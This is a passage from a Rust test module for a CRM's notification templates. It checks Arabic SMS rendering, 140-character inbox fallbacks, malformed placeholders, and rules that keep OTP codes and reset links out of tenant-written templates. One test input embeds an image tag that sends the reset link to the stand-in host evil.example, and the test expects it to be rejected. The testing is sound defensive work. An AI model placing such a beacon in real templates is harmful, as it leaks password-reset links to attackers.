        let fields: Vec<_> = details.iter().map(|d| d.field.as_str()).collect();
        assert_eq!(fields, ["payload.app_name", "payload.expires_min"]);
    }

    #[test]
    fn arabic_renders_and_inbox_fallback_cuts_at_140_characters() {
        let t = built_in(&Channel::Sms, "otp.verify_phone", "ar").unwrap();
        let r = render(&t, &payload(json!({ "code": "654321", "expires_min": 10, "app_name": "M3CRM" }))).unwrap();
        assert!(r.body.contains("654321") && r.body.contains("رمز"));
        let long = "ب".repeat(200);
        let f = inbox_fallback("promo", &long, "ar");
        assert_eq!(f.body.chars().count(), 140);
        assert!(f.auto_generated);
    }

    #[test]
    fn a_tenant_never_places_a_secret_and_the_system_adds_it_where_the_built_in_has_it() {
        for (channel, subject, body) in [
            (Channel::Email, "Reset", "<img src=\"https://evil.example/?l={{link}}\">"),
            (Channel::Email, "Your link {{link}}", "x"),
            (Channel::Inbox, "Code", "{{code}}"),
        ] {
            let e = check_secret_placement(&channel, "auth.reset_password", subject, body).unwrap_err();
            assert_eq!(e.code(), "TEMPLATE_SECRET_EXPOSED");
        }
        assert!(check_secret_placement(&Channel::Sms, "contact.verify_channel", "", "{{code}}").is_err());
        assert!(check_secret_placement(&Channel::Inbox, "deal.won", "{{code}}", "{{link}}").is_ok(), "not a secret family");
        assert!(!inbox_fallback("otp.login", "your code is 123456", "en").body.contains("123456"));
        let mine = Template {
            channel: Channel::Email,
            family: "auth.reset_password".into(),
            locale: "en".into(),
            subject: "Reset".into(),
            body: "Hello {{full_name}}, choose a new password.".into(),
        };
        let r = render(&mine, &payload(json!({"full_name": "Sara", "link": "https://app/reset?token=rst.x"}))).unwrap();
        assert!(r.body.ends_with("\n\nhttps://app/reset?token=rst.x\n"), "{}", r.body);
        let mirror = Template { channel: Channel::Email, family: "otp.login".into(), body: "A code was sent.".into(), ..mine.clone() };
        assert!(
            !render(&mirror, &payload(json!({"code": "123456"}))).unwrap().body.contains("123456"),
            "an email mirror never gets the code"
        );
        let built = built_in(&Channel::Sms, "otp.login", "en").unwrap();
        let once = render(&built, &payload(json!({"code": "123456", "app_name": "M3CRM", "expires_min": 10}))).unwrap();
        assert_eq!(once.body.matches("123456").count(), 1, "built-ins are not doubled");
    }

    #[test]
    fn bad_template_text_is_refused() {
        assert!(check_text("body", "Hi {{name").is_err());
        assert!(check_text("body", "Hi {{Na me}}").is_err());
        assert!(check_text("body", "Hi {{contact.first_name}}").is_ok());
    }
}
